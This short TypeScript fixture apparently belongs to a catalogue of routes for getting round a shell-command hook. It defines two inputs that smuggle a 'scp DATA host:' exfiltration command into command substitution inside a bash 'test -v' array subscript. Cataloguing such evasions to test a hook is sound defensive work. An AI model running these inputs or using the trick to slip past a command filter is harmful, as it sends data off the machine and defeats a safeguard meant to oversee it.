import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'command substitution in a test',
  source: 'attempts to get round a hook of the shell',
  keys: ['[[ -v a[$(scp DATA host:)] ]]\r', 'test -v "a[\\$(scp DATA host:)]"\r'],
};
